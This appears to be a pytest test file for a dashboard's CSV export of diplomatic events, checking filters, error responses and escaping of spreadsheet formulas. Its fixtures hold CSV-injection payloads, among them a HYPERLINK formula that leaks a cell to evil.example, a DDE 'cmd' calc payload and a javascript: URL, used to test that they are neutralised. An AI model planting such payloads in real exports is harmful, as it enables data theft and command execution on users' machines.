"""/events.csv: every filtered visible event as one CSV row, streamed; a cell a spreadsheet
would read as a formula is written as text; a filter with errors is a 400 listing them."""

from __future__ import annotations

import datetime as dt
import re

import pytest

from dashboard.exports import CSV_COLUMNS
from dashboard.filters import MAX_ID
from dashboard.models import Event
from tests.bad_filters import BAD_FILTER_IDS, BAD_FILTERS
from tests.factories import make_article, make_event, make_mention
from tests.views.reading import body, csv_rows

pytestmark = pytest.mark.django_db


def download(client, **query) -> list[dict]:
    response = client.get("/events.csv", query)
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv"
    assert re.fullmatch(
        r'attachment; filename="parley-events(-[a-z0-9]+)*\.csv"', response["Content-Disposition"]
    )
    return csv_rows(response)


def test_an_event_is_one_row_with_its_actors_and_sources(client, pompeo, kim, story):
    event = make_event(
        "meeting", "2018-07", actors=[pompeo, (kim, "target")], negotiation="us-dprk",
        summary="Pompeo meets Kim Yong-chol", location="Pyongyang", confidence=0.75,
    )  # fmt: skip
    make_mention(event, story, "Mike Pompeo met Kim Yong-chol in Pyongyang.")
    make_mention(event, story, "The talks went on for two days.")  # the same article: named once
    body_text = body(client.get("/events.csv"))
    assert body_text.splitlines()[0] == ",".join(CSV_COLUMNS)
    assert download(client) == [{
        "id": str(event.pk), "negotiation": "us-dprk", "type": "meeting", "status": "occurred",
        "date": "2018-07", "date_precision": "month", "end_date": "", "date_inferred": "false",
        "location": "Pyongyang",
        "summary": "Pompeo meets Kim Yong-chol", "confidence": "0.75", "review": "auto",
        "related_event": "", "plover": "CONSULT", "cameo": "040",
        "actors": "Mike Pompeo (participant); Kim Yong-chol (target)",
        "sources": f"[{story.pk}] The Hill: Pompeo in Pyongyang (2018-07-08) "
                   "<https://example.org/pyongyang>",
        "evidence": f"[{story.pk}] Mike Pompeo met Kim Yong-chol in Pyongyang.\n"
                    f"[{story.pk}] The talks went on for two days.",
    }]  # fmt: skip


def test_it_holds_exactly_the_filtered_visible_rows(client):
    cancelled = [make_event("meeting", f"2018-11-{day:02}", status="cancelled") for day in (8, 7)]
    make_event("meeting", "2018-11-06")
    make_event("meeting", "2018-11-09", status="cancelled", review="rejected")
    rows = download(client, status="cancelled")
    assert [int(row["id"]) for row in rows] == [event.pk for event in cancelled]


def test_it_holds_the_rows_the_api_lists(client, pompeo):
    for day in range(1, 4):
        make_event("meeting", f"2018-07-{day:02}", actors=[pompeo])
    make_event("meeting", "2018-07-04")
    listed = client.get("/api/events", {"actor": "mike-pompeo"}).json()["events"]
    rows = download(client, actor="mike-pompeo")
    assert [int(row["id"]) for row in rows] == [event["id"] for event in listed]
    assert len(rows) == 3


def test_the_negotiation_filter_keeps_that_negotiations_rows(client):
    iran = make_event("sanction", "2018-08-07", negotiation="us-iran")
    make_event("meeting", "2018-06-12", negotiation="us-dprk")
    rows = download(client, negotiation="us-iran")
    assert [(int(row["id"]), row["negotiation"]) for row in rows] == [(iran.pk, "us-iran")]


def test_the_largest_64_bit_article_id_exports_the_header_only(client):
    make_event("meeting", "2018-07-01", sources=[make_article()])
    assert body(client.get("/events.csv", {"article": str(MAX_ID)})) == ",".join(CSV_COLUMNS) + (
        "\r\n"
    )


@pytest.mark.parametrize(("query", "field", "message"), BAD_FILTERS, ids=BAD_FILTER_IDS)
def test_a_bad_filter_is_a_400_listing_the_errors(client, query, field, message):
    response = client.get("/events.csv", query)
    assert response.status_code == 400 and not response.streaming
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content.decode() == (
        f"The filter has errors, so nothing was exported:\n{field}: {message}\n"
    )


def test_a_source_without_a_title_is_named_by_its_article_id_never_its_file(client):
    article = make_article(source_key="admin/alice/story.txt#1", outlet="Example Wire",
                           url="javascript:alert(1)", published="2018-08-25")  # fmt: skip
    make_event("meeting", "2018-08-24", sources=[article])
    [row] = download(client)
    assert row["sources"] == f"[{article.pk}] Example Wire: Article {article.pk} (2018-08-25)"


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "\rcmd"]  # fmt: skip


@pytest.fixture
def formulas() -> list[Event]:
    """Events whose text cells would start formulas in a spreadsheet."""
    article = make_article(title="=cmd|' /C calc'!A0", outlet="@outlet", published=None,
                           url="https://example.org/f")  # fmt: skip
    return [
        make_event("statement", f"2030-01-{n + 1:02}", summary=summary, location="-Pyongyang",
                   confidence=0.25, sources=[article])
        for n, summary in enumerate(FORMULAS)
    ]  # fmt: skip


def test_cells_that_would_start_a_formula_are_written_as_text(client, formulas):
    rows = {row["id"]: row for row in csv_rows(client.get("/events.csv"))}
    assert len(rows) == len(FORMULAS)
    for n, (event, summary) in enumerate(zip(formulas, FORMULAS, strict=True)):
        row = rows[str(event.pk)]
        assert row["summary"] == "'" + summary
        assert row["location"] == "'-Pyongyang"
        article = event.mentions.get().article_id  # "[id] …" starts no formula
        assert row["sources"] == f"[{article}] @outlet: =cmd|' /C calc'!A0 <https://example.org/f>"
        # Numbers and dates as they were.
        assert row["id"] == str(event.pk) and row["confidence"] == "0.25"
        assert row["date"] == f"2030-01-{n + 1:02}"
        assert row["related_event"] == ""


def test_the_inferred_flag_and_last_day_are_carried(client):
    stated = make_event("summit", "2019-02-27", end_date=dt.date(2019, 2, 28))
    inferred = make_event("meeting", "2019-02-26", date_inferred=True)
    rows = {int(row["id"]): row for row in download(client)}
    assert (rows[stated.pk]["end_date"], rows[stated.pk]["date_inferred"]) == (
        "2019-02-28",
        "false",
    )
    assert (rows[inferred.pk]["end_date"], rows[inferred.pk]["date_inferred"]) == ("", "true")
